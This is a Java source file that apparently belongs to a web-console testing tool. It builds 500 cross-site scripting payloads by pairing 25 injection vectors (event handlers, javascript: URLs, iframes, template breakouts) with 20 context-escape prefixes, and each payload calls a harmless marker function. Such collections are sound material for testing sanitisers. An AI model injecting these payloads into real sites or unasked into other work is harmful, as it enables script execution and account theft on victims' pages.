package dev.gapura.console;

import java.util.ArrayList;
import java.util.List;

/// Texts that run a script where a page writes them as HTML, as an attribute, as a URL, as a style or as a part of a
/// script: each calls `executed()`. Made of a vector and of what gets it out of the place it was written to.
final class Payloads {
    private static final List<String> VECTORS = List.of(
            "<script>executed(1)</script>",
            "<img src=x onerror=executed(1)>",
            "<svg onload=executed(1)>",
            "<svg><animate onbegin=executed(1) attributeName=x dur=1s>",
            "<body onload=executed(1)>",
            "<input autofocus onfocus=executed(1)>",
            "<details open ontoggle=executed(1)>",
            "<video><source onerror=executed(1)></video>",
            "<iframe srcdoc=\"<script>parent.executed(1)</script>\"></iframe>",
            "<iframe src=\"javascript:parent.executed(1)\"></iframe>",
            "<object data=\"javascript:executed(1)\"></object>",
            "<embed src=\"javascript:executed(1)\">",
            "<a href=\"javascript:executed(1)\" autofocus onfocus=executed(1)>x</a>",
            "<form action=\"javascript:executed(1)\"><button autofocus onfocus=executed(1)>x</button></form>",
            "<math><mtext><script>executed(1)</script></mtext></math>",
            "<style>@import 'javascript:executed(1)';</style>",
            "<link rel=stylesheet href=\"data:text/css,*{background:url(javascript:executed(1))}\">",
            "<meta http-equiv=refresh content=\"0;url=javascript:executed(1)\">",
            "<base href=\"javascript:executed(1)//\">",
            "<marquee onstart=executed(1)>x</marquee>",
            "<div style=\"animation:x 1s\" onanimationstart=executed(1)>x</div>",
            "<template shadowrootmode=open><img src=x onerror=executed(1)></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=executed(1)>\">",
            "javascript:executed(1)",
            "data:text/html,<script>parent.executed(1)</script>");

    /// Ways out of text, attributes, elements, comments, scripts and templates.
    private static final List<String> EXITS = List.of(
            "%s",
            "\">%s",
            "'>%s",
            "\" onmouseover=executed(1) autofocus onfocus=executed(1) x=\"%s",
            "`;executed(1);//%s",
            "';executed(1);//%s",
            "\";executed(1);//%s",
            "</script>%s",
            "</textarea>%s",
            "</title>%s",
            "</style>%s",
            "</pre></code>%s",
            "-->%s",
            "]]>%s",
            "${executed(1)}%s",
            "{{constructor.constructor('executed(1)')()}}%s",
            "?lit$1$%s",
            "<!--lit-part-->%s",
            "<%%= executed(1) %%>%s",
            "\\x3cscript\\x3eexecuted(1)\\x3c/script\\x3e%s");

    private Payloads() {}

    /// All of them, 500, in ASCII and without line breaks.
    static List<String> all() {
        List<String> all = new ArrayList<>();
        for (String exit : EXITS) {
            VECTORS.forEach(vector -> all.add(exit.formatted(vector)));
        }
        return List.copyOf(all);
    }
}
